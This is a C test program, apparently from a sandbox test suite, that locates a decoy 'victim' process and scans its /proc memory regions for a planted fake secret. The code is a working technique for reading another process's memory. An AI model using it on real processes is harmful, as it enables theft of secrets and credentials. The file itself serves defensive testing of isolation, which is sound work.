/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Finds the victim by its name, reads its maps, and copies every readable region out of its mem file in
 * search of the made-up secret: the shape of runner_secrets.py and dump_heap.py for machines without Python.
 * Argument: heap (only that) or all.
 */
#include "attack.h"
#include <dirent.h>

#define SECRET "MADE-UP-SECRET"
#define CHUNK  4096

static bool is_called(pid_t pid, const char *name)
{
	char path[64], found[64] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false; /* gone in the meantime */
	if (read(fd, found, sizeof(found) - 1) < 0)
		found[0] = 0;
	close(fd);
	return !strcmp(found, name);
}

/* Others may run an attack at the same time: of all processes with this name, finds the one of this attack.
 */
static bool find_by_name(const char *name, pid_t ours)
{
	struct dirent *entry;
	bool found = false;
	DIR *directory = opendir("/proc");

	while (directory && (entry = readdir(directory)))
		if (atoi(entry->d_name) == ours && is_called(ours, name))
			found = true;
	closedir(directory);
	return found;
}

static bool region_has_secret(int mem, unsigned long start, unsigned long end)
{
	char chunk[CHUNK];

	for (unsigned long at = start; at < end; at += CHUNK) {
		/* a page that cannot be read, for example of a device, has no secret */
		ssize_t bytes = pread(mem, chunk, sizeof(chunk), at);

		if (bytes > 0 && memmem(chunk, bytes, SECRET, strlen(SECRET)))
			return true;
	}
	return false;
}

int main(int count, char **arguments)
{
	bool heap_only = count > 1 && !strcmp(arguments[1], "heap");
	char path[64], line[512], protection[8];
	unsigned long start, end;
	struct victim victim;
	bool found = false;
	struct act act;
	FILE *maps;
	int mem;

	attack_begin("dump_regions");
	victim = victim_start();
	if (!find_by_name("victim", victim.pid))
		attack_die("find the victim by its name");
	snprintf(path, sizeof(path), "/proc/%d/maps", victim.pid);
	maps = fopen(path, "re");
	if (!maps)
		attack_die("read the victim's maps");
	snprintf(path, sizeof(path), "/proc/%d/mem", victim.pid);
	act = act_begin(&victim);
	mem = act_openat(&act, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
	act_print(&act);
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s", &start, &end, protection) != 3 || protection[0] != 'r')
			continue;
		if (heap_only && !strstr(line, "[heap]"))
			continue;
		found = region_has_secret(mem, start, end) || found;
	}
	if (!found)
		attack_die("find the made-up secret");
	return 0;
}
